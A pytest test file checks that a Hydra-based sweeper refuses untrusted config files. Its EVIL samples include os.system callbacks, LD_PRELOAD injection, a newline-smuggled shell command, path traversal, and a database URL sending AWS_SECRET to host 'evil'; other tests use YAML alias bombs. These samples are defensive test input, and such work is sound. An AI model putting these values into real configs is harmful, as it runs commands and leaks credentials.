"""Config files of strangers: what runs code, sets the environment, or writes and looks elsewhere is refused in one line."""

from pathlib import Path
from typing import Any

import hydra
import pytest
import yaml
from hydra._internal.config_loader_impl import ConfigLoaderImpl
from hydra._internal.core_plugins.file_config_source import FileConfigSource

from sweeper.cli.hydra_private import VERSION
from sweeper.config.file_rules import forbidden

from .studies import TINY, Call

HELD_TO = f"sweeper.cli.hydra_private was compared with Hydra {VERSION}, and this is {hydra.__version__}"
EVIL: dict[str, dict[str, Any]] = {
    "hydra.callbacks": {"callbacks": {"x": {"_target_": "os.system", "command": "touch evil"}}},
    "hydra.job.env_set": {"job": {"env_set": {"LD_PRELOAD": "evil.so"}}},
    "hydra.job.env_copy": {"job": {"env_copy": ["AWS_SECRET"]}},
    "hydra.job.name": {"job": {"name": "../../evil"}},
    "hydra.run.dir": {"run": {"dir": "/evil"}},
    "hydra.job.id": {"job": {"id": "."}},
    "hydra.launcher.submitit_folder": {"launcher": {"submitit_folder": "a/${now:..}/${now:/../..}"}},
    "hydra.sweep.dir": {"sweep": {"dir": "${oc.env:HOME}/evil"}},
    "hydra.sweep.subdir": {"sweep": {"subdir": "a/../../evil"}},
    "hydra.output_subdir": {"output_subdir": ".."},
    "hydra.job_logging.handlers": {
        "job_logging": {"handlers": {"file": {"class": "logging.FileHandler", "filename": "/evil", "mode": "w"}}}
    },
    "hydra.hydra_logging.handlers": {
        "hydra_logging": {"handlers": {"x": {"()": "os.system", "command": "touch evil"}}}
    },
    "hydra.launcher.setup": {"launcher": {"setup": ["touch evil"]}},
    "hydra.launcher.partition": {"launcher": {"partition": "a\ntouch evil"}},
    "hydra.launcher.ray": {"launcher": {"ray": {"init": {"address": "ray://evil:1"}}}},
    "hydra.sweeper.storage": {"sweeper": {"storage": "postgresql://${oc.env:AWS_SECRET}@evil/db"}},
    "hydra.searchpath": {"searchpath": ["pkg://evil"]},
    "hydra.aliases": {"aliases": {"lr": "+hydra.job.env_set.LD_PRELOAD"}},
}
HARMLESS = [
    *(
        {"run": {"dir": "mine/${now:%Y.%m.%d}"}},
        {"sweep": {"subdir": "${hydra.job.num}"}},
        {"callbacks": {}, "verbose": True},
    ),
    {"launcher": {"partition": "gpu", "mem_gb": 4, "gres": "gpu:a100:1", "setup": None, "name": "${hydra.job.name}"}},
    {"launcher": {"ray": {"init": {"address": None, "num_cpus": 2}, "remote": {}}}},
    {"sweeper": {"storage": "sqlite:///mine.db", "n_trials": 3}, "aliases": {"lr": "optimizer.lr"}},
    {
        "job_logging": {
            "handlers": {
                "console": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"},
                "file": {
                    "class": "logging.FileHandler",
                    "filename": "${hydra.runtime.output_dir}/${hydra.job.name}.log",
                },
            }
        }
    },
]


@pytest.mark.parametrize("key", EVIL)
def test_what_acts_by_itself_is_named(key: str) -> None:
    """The key is named, and alone; so is an interpolation that could put it in, at any level above it."""
    assert [found for found, _ in forbidden({"hydra": EVIL[key]})] == [key]
    above = key.split(".")[1]
    assert any(key.startswith(found) for found, _ in forbidden({"hydra": {above: "${evil}"}}))
    assert any(key.startswith(found) for found, _ in forbidden({"hydra": "${evil}"}))


@pytest.mark.parametrize("settings", HARMLESS, ids=str)
def test_what_people_set_in_their_configs_is_allowed(settings: dict[str, Any]) -> None:
    """Folders below the working directory, a cluster's numbers and names, a database's file."""
    assert list(forbidden({"hydra": settings})) == []


def _write(path: Path, content: object, header: str = "# @package _global_\n") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(header + yaml.safe_dump(content))


@pytest.mark.parametrize(
    "key", ["hydra.callbacks", "hydra.job.env_set", "hydra.job_logging.handlers", "hydra.job.name"]
)
@pytest.mark.parametrize(
    "options", [["experiment=evil"], ["-m", "experiment=evil,null"], ["hydra/sweeper=basic", "experiment=evil"]]
)
def test_a_strangers_config_is_refused_before_it_acts(
    sweeper_call: Call, tmp_path: Path, key: str, options: list[str]
) -> None:
    """A run and a sweep end with one line, and leave no file."""
    _write(tmp_path / "theirs" / "experiment" / "evil.yaml", {"hydra": EVIL[key]})
    done = sweeper_call(*options, "--config-dir", "theirs", *TINY)
    assert done.returncode == 1
    assert done.stderr.startswith(f"sweeper: {key} "), HELD_TO
    assert done.stderr.count("\n") == 1
    assert [path.name for path in tmp_path.iterdir()] == ["theirs"]


def test_a_setting_is_found_wherever_a_file_puts_it(sweeper_call: Call, tmp_path: Path) -> None:
    """A package in a header or in a defaults list places a file's content below hydra."""
    _write(tmp_path / "theirs" / "experiment" / "evil.yaml", {"A": "b"}, "# @package hydra.job.env_set\n")
    _write(tmp_path / "theirs" / "experiment" / "sly.yaml", {"defaults": ["/content@hydra.job"]})
    _write(tmp_path / "theirs" / "content.yaml", {"env_set": {"A": "b"}}, "")
    for name in ("evil", "sly"):
        done = sweeper_call("--config-dir", "theirs", f"experiment={name}", *TINY)
        assert done.stderr.startswith("sweeper: hydra.job.env_set sets environment variables"), HELD_TO


def test_what_is_typed_is_the_users_own(sweeper_call: Call, tmp_path: Path) -> None:
    """A folder that is typed takes the place of a file's; other settings are merged, and stay refused."""
    _write(tmp_path / "mine" / "experiment" / "away.yaml", {"hydra": EVIL["hydra.run.dir"]})
    _write(tmp_path / "mine" / "experiment" / "env.yaml", {"hydra": EVIL["hydra.job.env_set"]})
    done = sweeper_call("--config-dir", "mine", "experiment=away", "hydra.run.dir=here", "--cfg", "hydra")
    assert "dir: here" in done.stdout
    done = sweeper_call("--config-dir", "mine", "experiment=env", "+hydra.job.env_set.A=b", "--cfg", "hydra")
    assert "take it out, and type it on the command line" in done.stderr
    done = sweeper_call("+hydra.job.env_set.A=b", "--cfg", "hydra")
    assert "A: b" in done.stdout


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a: &a [*a]", "*a stands for itself"),
        (
            "a0: &a0 [x,x]\n" + "\n".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)),
            "100,000 values",
        ),
        ("[" * 99 + "]" * 99, "nested deeper than 50"),
        ("x: " + "y" * 2**27, "larger than"),
        ("x: \xff", "utf-8"),
    ],
    ids=["recursive", "bomb", "deep", "large", "latin"],
)
def test_a_config_is_read_with_limits(sweeper_call: Call, tmp_path: Path, text: str, reason: str) -> None:
    """A hostile file ends in one line, at once; an alias that stands for little is allowed."""
    file = tmp_path / "theirs" / "experiment" / "evil.yaml"
    file.parent.mkdir(parents=True)
    file.write_bytes(text.encode("latin-1"))
    done = sweeper_call("--config-dir", "theirs", "experiment=evil", *TINY)
    assert done.returncode == 1
    assert "a config must be a readable YAML file" in done.stderr
    assert reason in done.stderr
    file.write_text("# @package _global_\ntraining: {epochs: &n 3}\nseed: *n\n")
    assert "seed: 3" in sweeper_call("--config-dir", "theirs", "experiment=evil", "--cfg", "job").stdout


def test_the_private_parts_of_hydra_are_where_they_were() -> None:
    """The first test to fail when a new version moves them."""
    assert callable(ConfigLoaderImpl._load_single_config), HELD_TO
    assert callable(FileConfigSource.load_config), HELD_TO
